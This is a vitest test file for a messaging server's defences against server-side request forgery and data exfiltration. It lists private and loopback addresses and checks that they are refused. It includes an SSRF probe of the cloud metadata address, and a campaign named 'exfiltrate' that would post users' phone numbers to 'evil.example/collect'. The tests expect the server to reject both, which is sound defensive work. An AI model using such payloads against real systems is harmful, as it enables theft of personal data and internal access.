import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { OutgoingMessage } from '../src/core/delivery/message.ts';
import {
  checkTargetNow,
  checkTargetUrl,
  guardedFetch,
  isPrivateAddress,
} from '../src/delivery/providers/private-targets.ts';
import { createProviderAs } from '../src/delivery/providers/provider-service.ts';
import { providersOf } from '../src/delivery/providers/provider-runtime.ts';
import { openProviderRegistry } from '../src/delivery/providers/registry.ts';
import { createUser, issueApiToken } from '../src/storage/control/users.ts';
import { startFakeProvider, type FakeProvider } from './support/delivery-fixtures.ts';
import { startTestServer, type TestServer } from './support/runtime.ts';

/**
 * Issue 13, point 5b: messages cannot choose where they go (the webhook channel posts to the
 * admin-configured provider), and provider endpoints and alert destinations on loopback or
 * private networks are refused unless the server allows them (REKINDLE_ALLOW_PRIVATE_TARGETS).
 */

describe('private targets (pure)', () => {
  it('knows loopback, private, link-local and unique-local addresses', () => {
    for (const ip of [
      '127.0.0.1',
      '127.8.9.10',
      '10.1.2.3',
      '172.16.0.1',
      '172.31.255.255',
      '192.168.1.1',
      '169.254.169.254',
      '0.0.0.0',
      '::1',
      '[::1]',
      'fc00::1',
      'fd12:3456::1',
      'fe80::1',
      '::ffff:127.0.0.1',
    ])
      expect([ip, isPrivateAddress(ip)]).toEqual([ip, true]);
    for (const ip of ['8.8.8.8', '172.32.0.1', '172.15.0.1', '192.169.0.1', '2001:db8::1', '::ffff:8.8.8.8'])
      expect([ip, isPrivateAddress(ip)]).toEqual([ip, false]);
  });

  it('refuses literal private hosts and localhost names from the URL alone, unless allowed', () => {
    expect(checkTargetUrl('http://127.0.0.1:8080/x', false).ok).toBe(false);
    expect(checkTargetUrl('http://localhost/x', false).ok).toBe(false);
    expect(checkTargetUrl('http://[::1]/x', false).ok).toBe(false);
    expect(checkTargetUrl('http://api.localhost/x', false).ok).toBe(false);
    expect(checkTargetUrl('https://hooks.example.com/x', false).ok).toBe(true);
    expect(checkTargetUrl('http://127.0.0.1:8080/x', true).ok).toBe(true);
  });

  it('at send time, refuses a name that resolves to a private address', async () => {
    const resolve = async (host: string) => (host === 'inside.example' ? ['10.0.0.7'] : ['93.184.216.34']);
    expect(await checkTargetNow('https://inside.example/x', false, resolve)).toMatchObject({ ok: false });
    expect(await checkTargetNow('https://outside.example/x', false, resolve)).toEqual({ ok: true });
    expect(await checkTargetNow('https://inside.example/x', true, resolve)).toEqual({ ok: true });
    let called = 0;
    const inner = (async () => {
      called++;
      return new Response('{}');
    }) as typeof fetch;
    const f = guardedFetch(inner, false, resolve);
    await expect(f('https://inside.example/x')).rejects.toMatchObject({ code: 'EPRIVATE_TARGET' });
    expect(called).toBe(0);
    await f('https://outside.example/x');
    expect(called).toBe(1);
  });
});

const message = (key: string): OutgoingMessage => ({
  idempotencyKey: key,
  workspaceId: 'default',
  campaignId: 'c1',
  runId: 'r1',
  step: 'main',
  variant: null,
  channel: 'webhook',
  class: 'marketing',
  recipient: { userId: 'u1', phone: '13800000001', email: 'u1@example.com' },
  content: { channel: 'webhook', url: 'http://127.0.0.1:9/attacker', body: '{"phone": "13800000001"}' },
});

describe('outbound targets over HTTP, private targets not allowed', () => {
  let s: TestServer;
  let admin = '';
  let operator = '';
  let adminId = 0;
  const fakes: FakeProvider[] = [];
  beforeAll(async () => {
    s = await startTestServer({ config: { allowPrivateTargets: false } });
    const a = await createUser(s.rt.control, { name: 'ada', role: 'admin' });
    const o = await createUser(s.rt.control, { name: 'olga', role: 'operator' });
    if (!a.ok || !o.ok) throw new Error('users');
    adminId = a.value.id;
    admin = await issueApiToken(s.rt.control, a.value.id);
    operator = await issueApiToken(s.rt.control, o.value.id);
  });
  afterEach(async () => {
    await Promise.all(fakes.splice(0).map((f) => f.close()));
  });
  afterAll(async () => {
    await s.stop();
    s.cleanup();
  });

  const post = async (path: string, token: string, body: unknown) => {
    const res = await fetch(`${s.url}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { status: res.status, json: (await res.json()) as Record<string, unknown> };
  };
  const hook = (url: string) => ({
    kind: 'webhook',
    name: `hook ${url}`,
    config: { url },
    secrets: { secret: 'whsec-0123456789abcdef' },
  });

  it('refuses provider endpoints and alert destinations on loopback and private networks', async () => {
    for (const url of [
      'http://127.0.0.1:8080/hook',
      'http://localhost/hook',
      'http://10.0.0.5/hook',
      'http://172.20.1.1/hook',
      'http://192.168.1.10/hook',
      'http://169.254.169.254/latest/meta-data',
      'http://[::1]/hook',
      'http://[fd00::5]/hook',
    ]) {
      const r = await post('/v1/providers', admin, hook(url));
      expect([url, r.status]).toEqual([url, 400]);
      expect(String(r.json['error'])).toMatch(
        /config\.url: .*private-network.*REKINDLE_ALLOW_PRIVATE_TARGETS/,
      );
    }
    const sms = await post('/v1/providers', admin, {
      kind: 'sms_http',
      name: 'gw',
      config: { url: 'http://10.1.1.1/send' },
      secrets: { authValue: 'x' },
    });
    expect(sms.status).toBe(400);
    const dest = await post('/v1/alerts/destinations', admin, {
      name: 'ops',
      kind: 'webhook',
      url: 'http://192.168.0.9/alert',
      secret: 'whsec-0123456789abcdef',
    });
    expect(dest.status).toBe(400);
    expect(JSON.stringify(dest.json)).toMatch(/private-network/);
    // A public name is fine when stored; it is checked again when called.
    expect((await post('/v1/providers', admin, hook('https://hooks.example.com/in'))).status).toBe(201);
  });

  it('only admins configure providers', async () => {
    expect((await post('/v1/providers', operator, hook('https://hooks.example.com/op'))).status).toBe(403);
  });

  it('refuses a webhook campaign content that names its own url', async () => {
    const aud = await post('/v1/audiences', operator, {
      name: 'all',
      definition: { kind: 'attribute', attribute: 'city', op: 'eq', value: 'Hangzhou' },
    });
    expect(aud.status).toBe(201);
    const r = await post('/v1/campaigns', operator, {
      name: 'exfiltrate',
      definition: {
        audienceId: aud.json['id'],
        class: 'transactional',
        category: 'recall',
        timing: { kind: 'one_off', at: '2030-01-01T00:00:00Z' },
        channels: ['webhook'],
        content: [
          { channel: 'webhook', url: 'https://evil.example/collect', body: '{"p": {{ user.phone | json }}}' },
        ],
      },
    });
    expect(r.status).toBe(400);
    expect(JSON.stringify(r.json)).toMatch(/content\[0\]\.url.*not allowed/);
  });

  it('refuses at send time a stored endpoint that is (or resolves to) this machine, and ignores content urls', async () => {
    const fake = await startFakeProvider();
    fakes.push(fake);
    const attacker = await startFakeProvider();
    fakes.push(attacker);
    const ctx = providersOf(s.rt).context;
    const actor = { userId: adminId, workspaceId: 'default', name: 'ada', role: 'admin' as const };
    // Stored while allowed (say, by an earlier configuration): `localhost` resolves to loopback.
    const local = fake.url.replace('127.0.0.1', 'localhost');
    const made = await createProviderAs({ ...ctx, allowPrivateTargets: true }, actor, {
      ...hook(local),
      name: 'was allowed',
      priority: -1,
    });
    expect(made.ok).toBe(true);
    const reg = openProviderRegistry(s.rt.control, { masterKeys: ctx.masterKeys, clock: s.rt.clock });
    try {
      const [first] = await reg.providersFor('default', 'webhook');
      expect(first?.id).toBe(made.ok ? made.value.id : '');
      const m = { ...message('k1'), content: { channel: 'webhook' as const, url: attacker.url, body: '{}' } };
      const out = await first!.adapter.send(m, new AbortController().signal);
      expect(out).toMatchObject({ kind: 'failed', retry: 'never', code: 'private_target' });
      expect(fake.seen).toHaveLength(0);
      expect(attacker.seen).toHaveLength(0);
      // Allowed by the server: the same provider reaches its endpoint, never the content's url.
      const open = openProviderRegistry(s.rt.control, {
        masterKeys: ctx.masterKeys,
        clock: s.rt.clock,
        allowPrivateTargets: true,
      });
      const [p] = await open.providersFor('default', 'webhook');
      expect(await p!.adapter.send(m, new AbortController().signal)).toMatchObject({ kind: 'accepted' });
      expect(fake.seen).toHaveLength(1);
      expect(attacker.seen).toHaveLength(0);
      await open.close();
    } finally {
      await reg.close();
    }
  });
});
